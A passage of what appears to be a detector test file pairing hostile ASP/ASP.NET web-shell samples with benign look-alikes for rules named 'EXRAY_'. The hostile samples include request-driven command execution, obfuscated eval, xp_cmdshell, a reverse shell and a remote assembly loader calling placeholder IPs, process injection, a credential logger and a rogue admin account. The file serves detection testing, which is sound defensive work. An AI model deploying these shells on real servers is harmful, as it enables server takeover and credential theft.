            "EXRAY_ASP_Raw_Upload_Path_Form",
            "<%\nraw = Request.BinaryRead(Request.TotalBytes)\np = InStrB(raw, ToBytes(\"filename=\"))\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet o = fs.CreateTextFile(target & name)\n%>\n<form method=post enctype=multipart/form-data><input type=file name=f>\n<input type=text name=target value=\"D:\\\">\n</form>\n",
            "<%\nraw = Request.BinaryRead(Request.TotalBytes)\np = InStrB(raw, ToBytes(\"filename=\"))\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.SaveToFile Server.MapPath(\"uploads/\" & safeName), 2\n%>\n<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit value=\"Send\"></form>\n",
        ),
        case(
            "EXRAY_ASP_Component_Probe",
            "<%\nOn Error Resume Next\nFunction Has(id)\n Err.Clear : Set o = Server.CreateObject(id) : Has = (Err.Number = 0)\nEnd Function\nFor Each id In Array(\"Persits.Upload\", \"SoftArtisans.FileUp\", \"LyfUpload.UploadFile\", \"JMail.Message\", \"CDONTS.NewMail\", \"WScript.Shell\")\n Response.Write id & \": \" & Has(id) & \"<br>\"\nNext\n%>\n",
            "<%\nOn Error Resume Next\nSet up = Server.CreateObject(\"Persits.Upload\")\nup.Save Server.MapPath(\"uploads\")\nSet mail = Server.CreateObject(\"Persits.MailSender\")\nmail.Host = \"smtp.example.org\"\n%>\n",
        ),
        case(
            "EXRAY_Windows_Account_Tamper",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices.AccountManagement\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var ctx = new PrincipalContext(ContextType.Machine);\n var u = new UserPrincipal(ctx, \"svc_backup\", \"Winter2021!\", true); u.Save();\n var g = GroupPrincipal.FindByIdentity(ctx, \"Administrators\");\n g.Members.Add(u); g.Save();\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.DirectoryServices.AccountManagement\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var ctx = new PrincipalContext(ContextType.Domain);\n var me = UserPrincipal.FindByIdentity(ctx, User.Identity.Name);\n name.Text = me.DisplayName;\n}\n</script>\n",
        ),
        case(
            "EXRAY_ADSI_Local_Enumeration",
            "<%\nSet box = GetObject(\"WinNT://.\")\nFor Each o In box\n If o.Class = \"User\" Then Response.Write o.Name & \"<br>\"\nNext\n%>\n",
            "<%\nSet who = GetObject(\"LDAP://CN=Users,DC=corp,DC=example\")\nResponse.Write who.Name\n%>\n",
        ),
        case(
            "EXRAY_Reserved_Device_Name_Page",
            "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nt = \"\\\\.\\c:\\inetpub\\wwwroot\\aux.sys.asp\"\nfs.GetFile(t).Attributes = 0\nfs.DeleteFile t\n%>\n",
            "<%\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nt = \"c:\\inetpub\\wwwroot\\old\\aux_report.asp\"\nfs.DeleteFile t\n%>\n",
        ),
        case(
            "EXRAY_Include_Of_Non_Script_File",
            "<!--#include file=\"banner2.txt\"-->\n",
            "<!--#include file=\"conn.asp\"-->\n",
        ),
        case(
            "EXRAY_ASP_Command_Output_Page",
            "<%\nSet sh = CreateObject(\"WScript.Shell\")\nSet job = sh.Exec(\"ipconfig /all\")\nResponse.Write job.StdOut.ReadAll()\n%>\n",
            "<%\nSet sh = CreateObject(\"WScript.Shell\")\nv = sh.ExpandEnvironmentStrings(\"%COMPUTERNAME%\")\nResponse.Write Server.HTMLEncode(v)\n%>\n",
        ),
        case(
            "EXRAY_NET_Unicode_Escaped_Code",
            "<%@ Page Language=\"C#\" %>\n<% if (\\u0052\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074[\"k\"] != null) { \\u0053\\u0065\\u0073\\u0073\\u0069\\u006f\\u006e.Add(\"k\", 1); } %>\n",
            "<%@ Page Language=\"C#\" %>\n<% string title = \"Caf\\u00e9 \\u00e0 la carte\"; Response.Write(title); %>\n",
        ),
        case(
            "EXRAY_Page_Embedded_Executable",
            "<%@ Page Language=\"C#\" %>\n<% string exe = \"4D5A90000300000004000000FFFF0000B8000000\"; System.IO.File.WriteAllBytes(Server.MapPath(\"t.exe\"), Hex(exe)); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% string logo = \"89504E470D0A1A0A0000000D49484452\"; Response.BinaryWrite(Hex(logo)); %>\n",
        ),
        case(
            "EXRAY_SQL_Console_Request",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object o, EventArgs e) {\n using (var c = new System.Data.SqlClient.SqlConnection(txtConn.Text)) {\n  c.Open();\n  var cmd = new System.Data.SqlClient.SqlCommand(txtSql.Text, c);\n  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n }\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Load(object o, EventArgs e) {\n using (var c = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString)) {\n  c.Open();\n  var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT Title FROM Posts WHERE Id = @id\", c);\n  cmd.Parameters.AddWithValue(\"@id\", Request[\"id\"]);\n }\n}\n</script>\n",
        ),
        case(
            "EXRAY_Writable_Folder_Probe",
            "<%\nSub Probe(p)\nSet fo = fso.GetFolder(p)\nFor Each d In fo.SubFolders\nOn Error Resume Next\nfso.CreateTextFile(d.Path & \"\\test.tmp\")\nIf Err = 0 Then Response.Write d.Path & \" writable<br>\"\nfso.DeleteFile(d.Path & \"\\test.tmp\")\nProbe d.Path\nNext\nEnd Sub\n%>\n",
            "<%\nSub Count(p)\nSet fo = fso.GetFolder(p)\nFor Each d In fo.SubFolders\nn = n + d.Files.Count\nNext\nResponse.Write n\nEnd Sub\n%>\n",
        ),
        case(
            "EXRAY_Writable_Folder_Probe",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Scan(DirectoryInfo d) {\n foreach (var s in d.GetDirectories()) Scan(s);\n try { if (File.Create(d.FullName + \"\\\\probe\").CanWrite) Lb.Text += d.FullName + \"<br/>\"; } catch { }\n}\nvoid Go(object o, EventArgs e) { Scan(new DirectoryInfo(Root.Text)); }\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Check(DirectoryInfo d) {\n foreach (var s in d.GetDirectories()) Lb.Text += s.Name;\n using (var f = File.Open(Server.MapPath(\"~/App_Data/log.txt\"), FileMode.Append)) { ok = f.CanSeek; }\n}\n</script>\n",
        ),
        case(
            "EXRAY_File_Attribute_Tamper",
            "<%\nIf Request(\"k\") = \"1\" Then\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.GetFile(Request.ServerVariables(\"PATH_TRANSLATED\"))\nf.Attributes = 39\nEnd If\n%>\n",
            "<%\nSet fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.GetFile(Server.MapPath(\"report.txt\"))\nIf f.Attributes And 1 Then Response.Write \"read-only\"\nResponse.Write Server.HTMLEncode(Request(\"q\"))\n%>\n",
        ),
        case(
            "EXRAY_Request_Process_Start",
            "<%@ Page Language=\"VB\" %>\n<%\nDim c As String = Request.Params.Get(\"q\")\nDim si As New System.Diagnostics.ProcessStartInfo()\nsi.FileName = \"cmd.exe\"\nsi.Arguments = \"/c \" & c\nsi.RedirectStandardOutput = True\nDim p As New System.Diagnostics.Process()\np.StartInfo = si\nCallByName(p, \"Start\", CallType.Method)\nResponse.Write(p.StandardOutput.ReadToEnd())\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<% var id = Request.QueryString[\"id\"];\nvar item = Catalog.Find(id);\nResponse.Write(Server.HtmlEncode(item.Name));\nSystem.Diagnostics.Trace.WriteLine(\"viewed \" + id); %>\n",
        ),
        case(
            "EXRAY_Process_Output_Page",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object s, EventArgs e) {\n  var si = new System.Diagnostics.ProcessStartInfo(tool.Value, args.Value);\n  si.UseShellExecute = false;\n  si.RedirectStandardOutput = true;\n  var p = System.Diagnostics.Process.Start(si);\n  result.Text = p.StandardOutput.ReadToEnd();\n}\n</script>\n<form runat=\"server\"><input id=\"tool\" runat=\"server\" /><input id=\"args\" runat=\"server\" /><asp:Label id=\"result\" runat=\"server\" /></form>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  var p = System.Diagnostics.Process.GetCurrentProcess();\n  uptime.Text = (DateTime.Now - p.StartTime).ToString();\n}\n</script>\n<asp:Label id=\"uptime\" runat=\"server\" />\n",
        ),
        case(
            "EXRAY_ASP_Object_Tag_Shell",
            "<object runat=\"server\" id=\"sh\" scope=\"page\" classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>\n<%\nResponse.Write sh.Exec(Request(\"c\")).StdOut.ReadAll()\n%>\n",
            "<object id=\"player\" classid=\"clsid:6BF52A52-394A-11d3-B153-00C04F79FAA6\" width=\"320\" height=\"240\"><param name=\"URL\" value=\"intro.wmv\" /></object>\n<% Response.Write Now() %>\n",
        ),
        case(
            "EXRAY_ASP_Chr_Assembled_Execute",
            "<%\nDim a, i, s\na = Array(101, 118, 97, 108, 40, 114, 101, 113, 117, 101, 115, 116, 40, 34, 122, 34, 41, 41)\nFor i = 0 To UBound(a)\n  s = s & Chr(a(i))\nNext\nExecute(s)\n%>\n",
            "<%\nDim line\nline = \"Name\" & Chr(9) & \"Value\" & Chr(13) & Chr(10)\nResponse.Write Replace(line, Chr(34), \"&quot;\")\n%>\n",
        ),
        case(
            "EXRAY_Execute_Decoder_Output",
            "<%\nbody = Request.BinaryRead(Request.TotalBytes)\nexecute(Decrypt(body))\n%>\n",
            "<%\nSet rs = conn.Execute(\"SELECT name FROM users\")\nResponse.Write Server.HTMLEncode(Replace(rs(\"name\"), \"_\", \" \"))\n%>\n",
        ),
        case(
            "EXRAY_JScript_Eval_Request_Split",
            "<%@ Page Language=\"JScript\" %>\n<% eval/*x*/(/*y*/Request/*z*/.Item[\"k\"], \"un\" + \"safe\"); %>\n",
            "<%@ Page Language=\"JScript\" %>\n<% /* show the request path */ Response.Write(Server.HtmlEncode(Request.Path)); %>\n",
        ),
        case(
            "EXRAY_NET_Assembly_From_Request",
            "<%@ Page Language=\"C#\" %>\n<% var k = System.Text.Encoding.Default.GetBytes(\"0123456789abcdef\");\nvar d = Convert.FromBase64String(Request.Form[\"p\"]);\nd = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length);\nvar t = typeof(System.Reflection.Assembly);\nvar a = t.GetMethod(System.Text.Encoding.UTF8.GetString(new byte[]{76, 111, 97, 100}), new Type[]{typeof(byte[])}).Invoke(null, new object[]{d});\na.GetType().GetMethod(\"CreateInstance\", new Type[]{typeof(string)}).Invoke(a, new object[]{\"X\"}); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var asm = typeof(Page).Assembly;\nversion.Text = asm.GetName().Version.ToString();\nvar q = Request.QueryString[\"lang\"]; %>\n<asp:Label id=\"version\" runat=\"server\" />\n",
        ),
        case(
            "EXRAY_NET_Embedded_Assembly_Loader",
            "<%@ Page Language=\"C#\" %>\n<% object o = System.Reflection.Assembly.Load(Convert.FromBase64String(\"TVqQAAMAAAAEAAAA\")).CreateInstance(\"G\");\no.GetType().GetMethod(\"Go\").Invoke(o, null); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var img = Convert.FromBase64String(\"iVBORw0KGgo=\");\nResponse.ContentType = \"image/png\";\nResponse.BinaryWrite(img); %>\n",
        ),
        case(
            "EXRAY_NET_Memory_Shell_Install",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Web.Hosting\" %>\n<script runat=\"server\">\nclass P : VirtualPathProvider { }\nvoid Page_Load(object s, EventArgs e) { HostingEnvironment.RegisterVirtualPathProvider(new P()); }\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { link.NavigateUrl = GetRouteUrl(\"product\", new { id = 3 }); }\n</script>\n<asp:HyperLink id=\"link\" runat=\"server\" />\n",
        ),
        case(
            "EXRAY_NET_Process_Injection",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32.dll\")] static extern IntPtr OpenProcess(uint a, bool b, int pid);\n[DllImport(\"kernel32.dll\")] static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);\n[DllImport(\"kernel32.dll\")] static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, int n, out IntPtr w);\n[DllImport(\"kernel32.dll\")] static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr id);\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { foreach (var p in System.Diagnostics.Process.GetProcesses()) list.Items.Add(p.ProcessName + \" \" + p.WorkingSet64); }\n</script>\n",
        ),
        case(
            "EXRAY_NET_Remote_Assembly_Loader",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n byte[] b = new System.Net.WebClient().DownloadData(\"http://10.0.0.5/a.bin\");\n var asm = AppDomain.CurrentDomain.Load(b);\n asm.EntryPoint.Invoke(null, new object[] { new string[0] });\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n byte[] b = new System.Net.WebClient().DownloadData(feedUrl);\n var t = System.Reflection.Assembly.GetExecutingAssembly().GetName().Version;\n Response.BinaryWrite(b);\n}\n</script>\n",
        ),
        case(
            "EXRAY_NET_Shellcode_Runner",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);\n[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr id);\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"user32\")] static extern int MessageBeep(uint t);\nvoid Page_Load(object s, EventArgs e) { var t = new System.Threading.Thread(Work); t.Start(); }\n</script>\n",
        ),
        case(
            "EXRAY_Connection_Strings_Dump",
            "<%@ Page Language=\"VB\" %>\n<table>\n<%\nDim css = ConfigurationManager.ConnectionStrings\nFor i As Integer = 0 To css.Count - 1\n Response.Write(\"<tr><td>\" & css.Item(i).Name & \"</td><td>\")\n Response.Write(css.Item(i).ConnectionString)\n Response.Write(\"</td></tr>\")\nNext\n%>\n</table>\n",
            "<%@ Page Language=\"C#\" %>\n<%\nforeach (ConnectionStringSettings c in ConfigurationManager.ConnectionStrings) {\n using (var conn = new SqlConnection(c.ConnectionString)) { conn.Open(); Response.Write(c.Name + \": reachable<br>\"); }\n}\n%>\n",
        ),
        case(
            "EXRAY_Page_Port_Forward",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<script runat=\"server\">\nSocket l, r; byte[] a = new byte[2048], b = new byte[2048];\nvoid Page_Load(object s, EventArgs e) {\n r = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n l = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n r.Connect(\"198.51.100.7\", 600); l.Connect(\"127.0.0.1\", 3389);\n r.BeginReceive(a, 0, a.Length, SocketFlags.None, FromRemote, null);\n l.BeginReceive(b, 0, b.Length, SocketFlags.None, FromLocal, null);\n}\nvoid FromRemote(IAsyncResult ar) { int n = r.EndReceive(ar); l.BeginSend(a, 0, n, SocketFlags.None, null, null); }\nvoid FromLocal(IAsyncResult ar) { int n = l.EndReceive(ar); r.BeginSend(b, 0, n, SocketFlags.None, null, null); }\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Check(object s, EventArgs e) {\n foreach (var host in new[] { \"smtp.corp.example\", \"db.corp.example\" }) {\n  using (var c = new System.Net.Sockets.TcpClient()) { c.Connect(host, 25); var st = c.GetStream(); st.Write(hello, 0, hello.Length); int n = st.Read(buf, 0, buf.Length); lbl.Text += host + \": \" + n; }\n }\n}\n</script>\n",
        ),
        case(
            "EXRAY_Socket_Tunnel_Request",
            "<%@ Page Language=\"C#\" %>\n<% string h = Request.Headers[\"X-H\"]; int port = int.Parse(Request.Headers[\"X-P\"]);\nvar s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\ns.Connect(h, port); Session[\"s\"] = s;\nvar buf = Request.BinaryRead(Request.ContentLength); s.Send(buf);\nvar r = new byte[4096]; int n = s.Receive(r); Response.BinaryWrite(r); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% using (var c = new System.Net.Sockets.TcpClient()) { c.Connect(\"smtp.corp.example\", 25); status.Text = c.Connected ? \"up\" : \"down\"; } %>\n<asp:Label id=\"status\" runat=\"server\" />\n",
        ),
        case(
            "EXRAY_Remote_Fetch_To_Disk",
            "<%\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Request(\"u\"), False\nh.Send\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write h.responseBody\nst.SaveToFile Server.MapPath(Request(\"f\")), 2\n%>\n",
            "<%@ Page Language=\"C#\" %>\n<% using (var w = new System.Net.WebClient()) { var json = w.DownloadString(\"https://api.corp.example/rates\"); rates.Text = Server.HtmlEncode(json); } %>\n<asp:Label id=\"rates\" runat=\"server\" />\n",
        ),
        case(
            "EXRAY_Remote_Content_Relay",
            "<%\nsrc = \"http://mirror.example.net/pages/\"\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", src & Request.ServerVariables(\"QUERY_STRING\"), False\nh.Send\nResponse.BinaryWrite h.responseBody\n%>\n",
            "<%\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Application(\"FeedUrl\"), False\nh.Send\nSet doc = h.responseXML\nResponse.Write Server.HTMLEncode(doc.documentElement.text)\n%>\n",
        ),
        case(
            "EXRAY_ASP_Execute_Assembled_String",
            "<%\nDim v\nv = \"e\"\nv = v & \"v\"\nv = v & \"a\"\nv = v & \"l\"\nExecute(v & \"(request(\"\"z\"\"))\")\n%>\n",
            "<%\nDim parts\nparts = Split(Request(\"tags\"), \",\")\nResponse.Write Server.HTMLEncode(Join(parts, \" | \"))\n%>\n",
        ),
        case(
            "EXRAY_ASP_Eval_Wrapper_Function",
            "<%Function Run(s) Execute s End Function%><%x = Request(\"z\")%><%Run x%>\n",
            "<%Function Twice(n) Twice = n * 2 End Function%><%x = Request(\"n\")%><%=Twice(CInt(x))%>\n",
        ),
        case(
            "EXRAY_Dropper_Embedded_Page",
            "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : System.Web.IHttpHandler {\n public void ProcessRequest(System.Web.HttpContext c) {\n  var w = System.IO.File.CreateText(c.Server.MapPath(\"x.aspx\"));\n  w.Write(\"<%@ Page Language=\\\"Jscript\\\"%\" + \"><%eval(Request.Item[\\\"k\\\"],\\\"unsafe\\\");%>\");\n  w.Close();\n }\n public bool IsReusable { get { return false; } }\n}\n",
            "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : System.Web.IHttpHandler {\n public void ProcessRequest(System.Web.HttpContext c) {\n  var w = System.IO.File.CreateText(c.Server.MapPath(\"~/App_Data/log.txt\"));\n  w.Write(\"visited \" + System.DateTime.Now);\n  w.Close();\n }\n public bool IsReusable { get { return false; } }\n}\n",
        ),
        case(
            "EXRAY_Credential_Logger",
            "<%\nu = Request.Form(\"user\")\np = Request.Form(\"password\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\".\") & \"\\l.txt\", 8, True)\nf.WriteLine u & \":\" & p & \":\" & Request.ServerVariables(\"REMOTE_ADDR\")\nf.Close\n%>\n",
            "<%\nu = Request.Form(\"user\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\"visits.log\"), 8, True)\nf.WriteLine Now() & \" \" & u\nf.Close\n%>\n",
        ),
        case(
            "EXRAY_NET_Native_Process_Create",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32.dll\")]\nstatic extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inh, uint f, IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[System.Runtime.InteropServices.DllImport(\"kernel32.dll\")]\nstatic extern uint GetTickCount();\n</script>\n",
        ),
        case(
            "EXRAY_NET_PowerShell_Host",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation.Runspaces\" %>\n<script runat=\"server\">\nstring Run(string t) { var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var p = rs.CreatePipeline(); p.Commands.AddScript(t); return p.Invoke().Count.ToString(); }\nvoid Go(object s, EventArgs e) { output.Text = Run(input.Text.Trim()); }\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { help.Text = \"Use the PowerShell cmdlet Get-Mailbox to list mailboxes.\"; }\n</script>\n<asp:Label id=\"help\" runat=\"server\" />\n",
        ),
        case(
            "EXRAY_NET_Reverse_Shell",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var c = new System.Net.Sockets.TcpClient(\"198.51.100.7\", 443);\n var si = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\");\n si.RedirectStandardInput = true; si.RedirectStandardOutput = true; si.UseShellExecute = false;\n var p = System.Diagnostics.Process.Start(si);\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var c = new System.Net.Sockets.TcpClient(\"smtp.corp.example\", 25);\n status.Text = c.Connected ? \"mail relay reachable\" : \"down\";\n}\n</script>\n<asp:Label id=\"status\" runat=\"server\" />\n",
        ),
        case(
            "EXRAY_SEO_Cloaking_Relay",
            "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">\nvoid Session_Start(object s, EventArgs e) {\n string ua = HttpContext.Current.Request.UserAgent.ToLower();\n if (ua.Contains(\"googlebot\") || ua.Contains(\"baiduspider\")) {\n  var w = new System.Net.WebClient();\n  HttpContext.Current.Response.BinaryWrite(w.DownloadData(\"http://spam.example.net/p\"));\n  HttpContext.Current.Response.End();\n }\n}\n</script>\n",
            "<%@ Application Language=\"C#\" %>\n<script runat=\"server\">\nvoid Session_Start(object s, EventArgs e) {\n string ua = HttpContext.Current.Request.UserAgent ?? \"\";\n if (ua.Contains(\"Googlebot\")) HttpContext.Current.Items[\"crawler\"] = true;\n}\n</script>\n",
        ),
        case(
            "EXRAY_XAMLX_Workflow_Code",
            "<WorkflowService ConfigurationName=\"S\" Name=\"S\" xmlns=\"http://schemas.microsoft.com/netfx/2009/xaml/servicemodel\">\n <Assign><Assign.Value><InArgument x:TypeArguments=\"x:String\">[System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\").ToString()]</InArgument></Assign.Value></Assign>\n</WorkflowService>\n",
            "<WorkflowService ConfigurationName=\"Orders\" Name=\"Orders\" xmlns=\"http://schemas.microsoft.com/netfx/2009/xaml/servicemodel\">\n <Assign><Assign.Value><InArgument x:TypeArguments=\"x:String\">[order.Id.ToString()]</InArgument></Assign.Value></Assign>\n</WorkflowService>\n",
        ),
        case(
            "EXRAY_ASP_Session_Key_Xor_Channel",
            "Function Enc(data)\nkey = Session(\"k\")\nFor i = 1 To Len(data)\nr = r & ChrB(Asc(Mid(data, i, 1)) Xor Asc(Mid(key, (i and 15) + 1, 1)))\nNext\nEnc = r\nEnd Function\n",
            "Function Mask(data)\nkey = Session(\"salt\")\nFor i = 1 To Len(data)\nr = r & Chr(Asc(Mid(data, i, 1)) + 1)\nNext\nMask = r\nEnd Function\n",
        ),
        case(
            "EXRAY_SQL_Console_Input",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object s, EventArgs e) {\n var con = new System.Data.SqlClient.SqlConnection(this.txtConn.Text);\n var cmd = new System.Data.SqlClient.SqlCommand(this.txtSql.Text, con);\n con.Open(); grid.DataSource = cmd.ExecuteReader(); grid.DataBind();\n}\n</script>\n",
            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Find(object s, EventArgs e) {\n var con = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[\"db\"].ConnectionString);\n var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT * FROM Products WHERE Name = @n\", con);\n cmd.Parameters.AddWithValue(\"@n\", txtName.Text);\n}\n</script>\n",
        ),
        case(
            "EXRAY_Exchange_OAB_Settings_Shell",
            &oab_dump("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){/**/}</script>"),
            &oab_dump("https://mail.corp.example/OAB"),
        ),
        case(
            "EXRAY_Exchange_PST_Export_Shell",
            &pst_with("<script language=\"JScript\" runat=\"server\">function Page_Load(){/**/}</script>"),
            &pst_with("Subject: quarterly report\r\nPlease find the figures attached."),
        ),
        case(
            "EXRAY_NET_PowerShell_Runspace",
            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation.Runspaces\" %>\n<% var rs = RunspaceFactory.CreateRunspace(); rs.Open();\nvar p = rs.CreatePipeline(); p.Commands.AddScript(Request.Form[\"ps\"]);\nforeach (var o in p.Invoke()) Response.Write(o); %>\n",
            "// Admin console tool (not a web page)\nusing System.Management.Automation;\nvar ps = PowerShell.Create();\nps.AddCommand(\"Get-ExchangeServer\");\nforeach (var o in ps.Invoke()) Console.WriteLine(o);\n",
        ),
        case(
            "EXRAY_NET_Deserialize_Request",
            "<%@ Page Language=\"C#\" %>\n<% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();\nf.Deserialize(Request.InputStream); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();\nusing (var s = System.IO.File.OpenRead(Server.MapPath(\"~/App_Data/cache.bin\"))) { var o = f.Deserialize(s); }\nResponse.Write(Server.HtmlEncode(Request[\"q\"])); %>\n",
        ),
        case(
            "EXRAY_NET_Deserialize_Request_Flow",
            "<%@ Page Language=\"C#\" %>\n<% var d = Request.Form[\"d\"];\nvar b = Convert.FromBase64String(d);\nvar o = new System.Web.UI.ObjectStateFormatter().Deserialize(new System.IO.MemoryStream(b)); %>\n",
            "<%@ Page Language=\"C#\" %>\n<% var d = System.IO.File.ReadAllBytes(Server.MapPath(\"~/App_Data/state.bin\"));\nvar o = new System.Web.UI.ObjectStateFormatter().Deserialize(new System.IO.MemoryStream(d));\nResponse.Write(Server.HtmlEncode(Request[\"q\"])); %>\n",
        ),
        case(
            "EXRAY_XSLT_Request_Stylesheet",
            "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.loadXML \"<r/>\"\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.loadXML Request(\"s\")\nResponse.Write xml.transformNode(xsl)\n%>\n",
            "<%\nSet xml = Server.CreateObject(\"MSXML2.DOMDocument\")\nxml.load Request\nSet xsl = Server.CreateObject(\"MSXML2.DOMDocument\")\nxsl.load Server.MapPath(\"report.xsl\")\nResponse.Write xml.transformNode(xsl)\n%>\n",
        ),
        case(
            "EXRAY_SQL_Shell_Request_Flow",
            "<%\nSet cn = Server.CreateObject(\"ADODB.Connection\")\ncn.Open \"Provider=SQLOLEDB;Data Source=.;Integrated Security=SSPI\"\nc = Request.Form(\"c\")\nSet rs = cn.Execute(\"exec master..xp_cmdshell '\" & Replace(c, \"'\", \"''\") & \"'\")\nDo Until rs.EOF : Response.Write rs(0) & \"<br>\" : rs.MoveNext : Loop\n%>\n",
            "<%\nFunction Safe(v)\n If InStr(LCase(v), \"xp_cmdshell\") > 0 Or InStr(LCase(v), \"exec master\") > 0 Then Response.End\n Safe = Replace(v, \"'\", \"''\")\nEnd Function\nSet rs = conn.Execute(\"select * from news where title like '%\" & Safe(Request(\"q\")) & \"%'\")\n%>\n",
        ),
        case(
            "EXRAY_CS_Verbatim_Identifier_Evasion",
            "<%@ Page Language=\"C#\" %>\n<% var p = new System.@Diagnostics.@Process(); p.@StartInfo.@FileName = \"cmd.exe\"; p.@StartInfo.@Arguments = \"/c \" + Request[\"c\"]; p.@Start(); %>\n",
            "@using System.Linq\n@{ var items = Model.Items; }\n<input name=\"Checkbox.@permission.Name\" value=\"@Process.Name\" /> <a href=\"mailto:user.@domain\">@Model.Title</a>\n",
        ),
        case(
            "EXRAY_CS_Unicode_Escape_Evasion",
            "<%@ Page Language=\"C#\" %>\n<% var p = new System.Diagnostics.Pro\\u0063ess(); p.StartInfo.FileName = \"cm\\u0064.exe\"; p.StartInfo.Arguments = \"/c \" + Request[\"c\"]; p.Start(); %>\n",
